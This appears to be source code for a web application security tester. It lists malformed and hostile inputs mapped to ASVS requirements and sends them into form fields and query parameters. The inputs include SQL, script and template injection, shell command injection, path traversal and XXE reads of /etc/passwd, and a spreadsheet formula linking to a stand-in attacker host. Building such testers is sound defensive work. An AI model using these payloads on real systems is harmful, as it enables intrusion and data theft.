import { EVERY, EVIL, LINE, MARKUP, WRITES, type Attack } from "../target.ts";

type BadValue = { name: string; asvs: readonly string[]; value: unknown };

/** Values that no field, parameter or query expects, but that each may meet. */
const VALUES: readonly BadValue[] = [
  { name: "a list for one value", asvs: ["2.2.1", "15.3.5"], value: ["1", "2"] },
  { name: "an object for text", asvs: ["2.2.1", "15.3.5"], value: { toString: 1, length: 1e9, then: 1 } },
  { name: "a truth for a number", asvs: ["2.2.1", "15.3.5"], value: true },
  { name: "nothing", asvs: ["2.2.1"], value: "" },
  { name: "blanks alone", asvs: ["2.2.1"], value: " \t\u00a0\u3000" },
  { name: "text far too long", asvs: ["1.3.3", "2.2.1"], value: "x".repeat(40_000) },
  { name: "a negative number", asvs: ["1.4.2"], value: -1 },
  { name: "one more than four bytes hold", asvs: ["1.4.2"], value: 2 ** 31 },
  { name: "one more than eight bytes hold", asvs: ["1.4.2"], value: "9223372036854775808" },
  { name: "more digits than a number has", asvs: ["1.4.2"], value: "9".repeat(400) },
  { name: "a number past the greatest", asvs: ["1.4.2"], value: "1e400" },
  { name: "no number that is one", asvs: ["1.4.2", "15.3.5"], value: "NaN" },
  { name: "an endless number", asvs: ["1.4.2", "15.3.5"], value: "Infinity" },
  { name: "nought below nought", asvs: ["1.4.2"], value: "-0" },
  { name: "octal, hexadecimal and grouped", asvs: ["1.1.1", "1.4.2"], value: "0x1F" },
  { name: "digits of another script", asvs: ["1.1.1"], value: "\u0661\uff12" },
  { name: "a day that is not there", asvs: ["2.2.1", "2.2.3"], value: "2026-02-30" },
  { name: "a day before all calendars", asvs: ["2.2.1", "2.2.3"], value: "-271821-04-20" },
  { name: "a day of the year 99999", asvs: ["2.2.1", "2.2.3"], value: "99999-12-31" },
  { name: "a NUL within", asvs: ["1.3.3", "2.2.1"], value: "a\u0000b" },
  { name: "signs that steer a terminal", asvs: ["1.3.3", "16.4.1"], value: "\u001b[31m\u0007" },
  { name: "half a letter", asvs: ["1.1.1"], value: "\ud800" },
  { name: "text that runs backwards", asvs: ["1.3.3"], value: "\u202etxt.exe" },
  { name: "letters without width", asvs: ["1.3.3"], value: "Ad\u200bmin\ufeff" },
  { name: "marks upon one letter", asvs: ["1.3.3"], value: `a${"\u0301\u0316".repeat(400)}` },
  { name: "SQL", asvs: ["1.2.4"], value: "1' or '1'='1'; drop table students; --" },
  { name: "SQL's signs for anything", asvs: ["1.2.4", "1.2.9"], value: "%_\\" },
  { name: "HTML", asvs: ["1.2.1", "3.2.2"], value: MARKUP },
  { name: "a script's end", asvs: ["1.2.3"], value: "</script><img src=x onerror=tb9>" },
  { name: "an address that runs", asvs: ["1.2.2"], value: "javascript:alert(1)" },
  { name: "a template", asvs: ["1.3.7"], value: "{{7*7}}${7*7}<%= 7*7 %>#{7*7}" },
  { name: "a format", asvs: ["1.3.10"], value: "%s%n%p %1$s" },
  { name: "a formula", asvs: ["1.2.10"], value: '=HYPERLINK("http://evil.example";"x")' },
  { name: "a header of one's own", asvs: ["1.2.1", "16.4.1"], value: LINE },
  { name: "a path out of the folder", asvs: ["5.3.2"], value: "../../../../etc/passwd" },
  { name: "a command", asvs: ["1.2.5"], value: "$(touch /tmp/tb9)`id`|id;id" },
  { name: "an expression without an end", asvs: ["1.3.12"], value: `(${"a+".repeat(200)})+$` },
  { name: "the address of another server", asvs: ["1.3.6", "3.7.2"], value: `http://${EVIL}/` },
  { name: "an entity of XML", asvs: ["1.5.1"], value: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' },
  { name: "everybody's forefather", asvs: ["15.3.6"], value: "__proto__" },
]; // prettier-ignore

/** Each attack changes another field of a form or call in turn. */
export const IN_FIELDS: readonly Attack[] = VALUES.map(({ name, asvs, value }) => ({
  name: `${name} in a field`,
  asvs,
  on: WRITES,
  change: ({ fields }, turn) => {
    if (fields.length === 0) return null;
    const hit = turn % fields.length;
    return { fields: fields.map(([field, usual], at) => [field, at === hit ? value : usual] as const) };
  },
}));

/** Each attack changes a known part of the query, or a parameter that pages read. */
const ASKED_BY = ["q", "term", "search", "page", "sort", "class", "next"];

export const IN_QUERY: readonly Attack[] = VALUES.filter(({ value }) => typeof value === "string").map(
  ({ name, asvs, value }) => ({
    name: `${name} in the query`,
    asvs,
    on: EVERY,
    change: ({ query }, turn) => {
      const names = [...query.map(([known]) => known), ...ASKED_BY];
      return { search: `${names[turn % names.length]}=${encoded(String(value))}` };
    },
  }),
);

/** A value that has no bytes of its own is sent as invalid ones. */
function encoded(text: string): string {
  return text === "\ud800" ? "%ED%A0%80" : encodeURIComponent(text).slice(0, 8_000);
}
